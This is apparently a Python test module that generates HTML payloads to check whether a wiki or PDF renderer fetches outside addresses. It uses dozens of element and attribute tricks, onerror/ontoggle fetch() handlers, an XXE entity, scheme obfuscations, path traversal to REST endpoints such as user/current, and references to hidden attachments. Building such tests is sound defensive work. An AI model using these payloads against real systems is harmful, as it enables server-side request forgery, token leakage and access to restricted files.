"""Requests from HTML: every element and attribute that makes some reader of HTML fetch something.

Server-side request forgery through PDF printers: DEF CON 27, 2019; CVE-2024-28184, CVE-2025-68616.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.attacks.attack import Attack, Bait, listed
from tests.attacks.canary import HOSTS, SIX

_ELEMENTS = {
    "style sheet": '<link rel="stylesheet" href="{}">',
    "attachment link": '<link rel="attachment" href="{}"><a rel="attachment" href="{}x">a</a>',
    "icons and hints": (
        '<link rel="icon" href="{}1"><link rel="preload" as="image" href="{}2">'
        '<link rel="prefetch" href="{}3"><link rel="import" href="{}4">'
        '<link rel="manifest" href="{}5"><link rel="dns-prefetch preconnect" href="{}6">'
    ),
    "script": '<script src="{}"></script><script>new Image().src = "{}x"</script>',
    "image": '<img src="{}">',
    "old image": '<image src="{}"><img lowsrc="{}1" dynsrc="{}2" longdesc="{}3">',
    "image set": '<img srcset="{}1 1x, {}2 2x" sizes="100vw">',
    "picture": '<picture><source srcset="{}1"><img src="{}2"></picture>',
    "image of the editor": (
        '<img class="confluence-embedded-image" src="{}1" data-image-src="{}2" data-base-url="{}3"'
        ' data-linked-resource-id="80000" data-media-id="{}4" width="{}5">'
    ),
    "emoticon": (
        '<img class="emoticon" src="{}1" data-emoji-fallback="{}2" data-emoji-id="{}3"'
        ' data-emoji-shortname=":{}4:">'
    ),
    "frames": (
        '<iframe src="{}1"></iframe><iframe srcdoc="<img src={}2>"></iframe>'
        '<frameset><frame src="{}3"></frameset><portal src="{}4"></portal>'
    ),
    "objects": (
        '<object data="{}1" type="image/png"><param name="src" value="{}2"></object>'
        '<embed src="{}3"><applet archive="{}4" code="x"></applet>'
    ),
    "object over image": '<object data="{}1"><img src="{}2"></object>',
    "refresh": '<meta http-equiv="refresh" content="0; url={}">',
    "base": '<base href="{}/"><img src="a.png"><link rel="stylesheet" href="b.css">',
    "sound and film": (
        '<video poster="{}1" src="{}2"><track src="{}3"></video><audio src="{}4" autoplay></audio>'
    ),
    "inputs": (
        '<form action="{}1"><input type="image" src="{}2"><button formaction="{}3">b</button>'
        "</form>"
    ),
    "backgrounds": (
        '<table background="{}1"><tr background="{}2"><td background="{}3">c</td></tr></table>'
        '<div background="{}4">d</div>'
    ),
    "pings and sources": (
        '<a href="#top" ping="{}1">p</a><blockquote cite="{}2">q</blockquote>'
        '<q cite="{}3">q</q><ins cite="{}4">i</ins><ul style="list-style-image: url({}5)"></ul>'
    ),
    "body": '<body background="{}1" onload="fetch(\'{}2\')"><html manifest="{}3">',
    "document type": (
        '<?xml-stylesheet href="{}1"?><!DOCTYPE html SYSTEM "{}2" [<!ENTITY x SYSTEM "{}3">]>&x;'
    ),
    "comments and sections": (
        '<!--[if IE]><img src="{}1"><![endif]--><![CDATA[<img src="{}2">]]><!--><img src="{}3">'
        '--><!--><p><img src="{}4"></p>'
    ),
    "inert elements": (
        '<noscript><img src="{}1"></noscript><template><img src="{}2"></template>'
        '<noembed><img src="{}3"></noembed><xmp><img src="{}4"></xmp>'
    ),
    "details": "<details open ontoggle=\"fetch('{}')\"><summary>s</summary>d</details>",
    "handlers": '<img src="x" onerror="fetch(\'{}1\')"><p onclick="location=\'{}2\'">p</p>',
    "mathematics": (
        '<math><mglyph src="{}1"/><mi href="{}2" xlink:href="{}3">x</mi><semantics><mi>y</mi>'
        '<annotation-xml encoding="text/html"><img src="{}4"></annotation-xml></semantics></math>'
    ),
    "formula as source": r"<p>\[ \includegraphics{{}} \href{{}}{x} \]</p>".replace(
        "{{}}", "{{{}}}"
    ),
    "image map": (
        '<img usemap="#m" src="{}1"><map name="m"><area href="{}2" shape="rect" coords="0,0,9,9">'
        "</map>"
    ),
    "tag in capitals": '<IMG SRC="{}1"><ImG/SrC={}2><img/src={}3/><img\x0csrc={}4>',
}

_MACROS = {
    "diagram of an app": (
        '<div class="ap-container" data-hostapp="{}1"><script class="ap-iframe-body-script">'
        '{{"url":"{}2"}}</script><iframe src="{}3"></iframe></div>'
    ),
    "widget": (
        '<div class="conf-macro output-block" data-hasbody="false" data-macro-name="widget">'
        '<iframe src="{}1"></iframe><img src="{}2"></div>'
    ),
    "include of an address": (
        '<div class="conf-macro" data-macro-name="html-include"><a href="{}1">{}1</a></div>'
        '<div class="conf-macro" data-macro-name="rss"><a href="{}2">{}2</a></div>'
    ),
    "smart links": (
        '<a href="{}1" data-card-appearance="embed">{}1</a>'
        '<a href="{}2" data-card-appearance="block" data-datasource="{{}}">{}2</a>'
    ),
    "live list": (
        '<a href="{}1" data-card-appearance="block" data-datasource=\'{{"id":"{}2","parameters":'
        '{{"cloudId":"{}3","jql":"order by x","url":"{}4"}},"views":[{{"type":"table"}}]}}\'>l</a>'
    ),
    "person": '<a class="confluence-userlink" href="{}1"><img src="{}2">Ada</a>',
    "gallery": '<table class="gallery"><tr><td><a href="{}1"><img src="{}2"></a></td></tr></table>',
    "file card": (
        '<span class="confluence-embedded-file-wrapper"><a class="confluence-embedded-file" '
        'data-file-src="{}1" data-linked-resource-default-alias="a.pdf" href="{}2">'
        '<img src="{}3"></a></span>'
    ),
}

# Addresses on the site itself, which a careless client would call with the reader's own token.
_OF_THE_SITE = (
    "/wiki/rest/api/user/current",
    "/wiki/rest/api/content/{page}/child/attachment/att{file}/download",
    "/wiki/download/attachments/65537/../../rest/api/user/current",
    "/wiki/download/attachments/65537/..%2f..%2frest%2fapi%2fuser%2fcurrent",
    "/wiki/plugins/servlet/logout",
    "/wiki/download/attachments/{page}/hidden.svg",
    "/wiki/download/thumbnails/{page}/hidden.svg?api=v2",
)


def attacks(bait: Bait) -> Iterator[Attack]:
    for table in (_ELEMENTS, _MACROS):
        for name, html in table.items():
            address = bait.web(f"html-{name.replace(' ', '-')}")
            written = html.replace("{}", address).replace("{{", "{").replace("}}", "}")
            swallows = name in ("document type", "comments and sections")
            yield Attack(f"Markup {name}", written, swallows=swallows)
    for name, host in (HOSTS | SIX).items():
        yield Attack(f"Address {name}", _everywhere(bait.web(f"address-{name}", host)))
    yield from listed(
        {
            "in capitals": _everywhere(bait.web("capitals", scheme="HtTp")),
            "with a tab": _everywhere(bait.web("tab").replace("http", "ht\ttp")),
            "without a scheme": _everywhere(bait.web("none").removeprefix("http:")),
            "with backslashes": _everywhere(bait.web("back").replace("/", "\\")),
            "of a file server": _everywhere(bait.web("ftp", scheme="ftp")),
            "of old services": _everywhere(bait.web("gopher", scheme="gopher")),
            "with a view": _everywhere(f"view-source:{bait.web('view')}"),
            "in a jar": _everywhere(f"jar:{bait.web('jar')}!/x.png"),
        },
        "Address",
    )
    yield Attack("Addresses of the site", "".join(map(_everywhere, _of_the_site(bait))))
    yield Attack("Attachment of a stranger", _strangers(bait))


def _everywhere(address: str) -> str:
    return (
        f'<img src="{address}"><img class="confluence-embedded-image" data-image-src="{address}"'
        f' src="{address}"><link rel="stylesheet" href="{address}"><object data="{address}">'
        f'</object><p style="background: url({address})">words</p>'
    )


def _of_the_site(bait: Bait) -> Iterator[str]:
    for path in _OF_THE_SITE:
        yield path.format(page=bait.hidden_page, file=bait.stranger)


def _strangers(bait: Bait) -> str:
    """Files of a page that the reader may not see, named in every way a page can name a file."""
    given = (
        f'data-linked-resource-id="{bait.stranger}" data-linked-resource-type="attachment"'
        f' data-linked-resource-container-id="{bait.hidden_page}"'
    )
    return (
        f'<img class="confluence-embedded-image" {given} src="x.svg">'
        f'<img class="confluence-embedded-image" {given} data-linked-resource-version="1/../.."'
        ' src="x.svg">'
        f'<a class="confluence-embedded-file" {given} href="x.svg">x</a>'
        f'<img class="confluence-embedded-image" src="/x" data-linked-resource-id='
        f'"{bait.stranger}/../../../user/current" data-linked-resource-container-id="../user">'
    )
